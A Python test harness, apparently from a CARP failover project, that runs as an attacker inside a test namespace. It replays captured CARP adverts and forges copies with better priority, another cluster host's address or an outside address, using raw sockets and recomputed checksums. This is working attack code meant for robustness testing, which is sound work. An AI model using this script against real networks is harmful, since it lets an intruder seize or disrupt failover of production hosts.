"""Run inside a test namespace: someone on the segment without the password, for as long as asked.

    python attacker.py IFACE GROUP SECONDS SEED [HOST ...]

It listens to the CARP adverts on IFACE and, every 0.2 s, sends one of what it heard before, each
way an attacker can: replayed as it was (after a while, so the counter is old); with a better
priority (advbase 0, advskew 1; the CARP digest does not cover it); under another host's address
(one of HOST, the cluster's); from an address that is no host. A final line says how many of each
it sent, as JSON. Only ever sends to GROUP on IFACE, the test's own segment. Deliberately does not
import iprotate: it knows only what is on the wire.
"""

from __future__ import annotations

import json
import random
import select
import signal
import socket
import struct
import sys
import time
from collections import deque

STRANGER = "198.51.100.97"


def _join(s: socket.socket, iface: str, group: str) -> None:
    ifindex = socket.if_nametoindex(iface)
    mreqn = struct.pack("=4s4si", socket.inet_aton(group), b"\0" * 4, ifindex)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreqn)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, mreqn)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def rewrite(
    pkt: bytes, src: str | None = None, advbase: int | None = None, skew: int | None = None
) -> bytes:
    """The packet with another source or priority; the CARP checksum recomputed, the digest and
    counter as they were. (The kernel fills in the IP header's checksum.)"""
    ihl = (pkt[0] & 0x0F) * 4
    ip, carp = bytearray(pkt[:ihl]), bytearray(pkt[ihl : ihl + 36])
    if src is not None:
        ip[12:16] = socket.inet_aton(src)
    if skew is not None:
        carp[2] = skew
    if advbase is not None:
        carp[5] = advbase
    carp[6:8] = b"\0\0"
    carp[6:8] = _checksum(bytes(carp)).to_bytes(2, "big")
    return bytes(ip + carp)


def main() -> None:
    iface, group, seconds, seed, *hosts = sys.argv[1:]
    rng = random.Random(int(seed))
    rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, 112)
    _join(rx, iface, group)
    tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    _join(tx, iface, group)
    stop: list[bool] = []
    for sig in (signal.SIGINT, signal.SIGTERM):  # stop, and still say what was sent
        signal.signal(sig, lambda *_: stop.append(True))
    heard: deque[tuple[float, bytes]] = deque(maxlen=400)
    sent = {"replay": 0, "better_priority": 0, "other_host": 0, "stranger": 0}
    end = time.monotonic() + float(seconds)
    next_at = time.monotonic() + 1.0
    while (left := end - time.monotonic()) > 0 and not stop:
        if select.select([rx], [], [], min(left, 0.05))[0]:
            data = rx.recv(2048)
            if len(data) >= 56 and socket.inet_ntoa(data[12:16]) in hosts:
                heard.append((time.monotonic(), data))
        now = time.monotonic()
        if now < next_at:
            continue
        next_at = now + 0.2
        old = [p for t, p in heard if now - t > 1.5]
        if not old:
            continue
        pkt = rng.choice(old)
        kind = rng.choice(list(sent))
        if kind == "replay":
            out = pkt
        elif kind == "better_priority":
            out = rewrite(pkt, advbase=0, skew=1)
        elif kind == "other_host":
            others = [h for h in hosts if h != socket.inet_ntoa(pkt[12:16])]
            out = rewrite(pkt, src=rng.choice(others), advbase=0, skew=1)
        else:
            out = rewrite(pkt, src=STRANGER, advbase=0, skew=1)
        tx.sendto(out, (group, 0))
        sent[kind] += 1
    print(json.dumps(sent), flush=True)


if __name__ == "__main__":
    main()
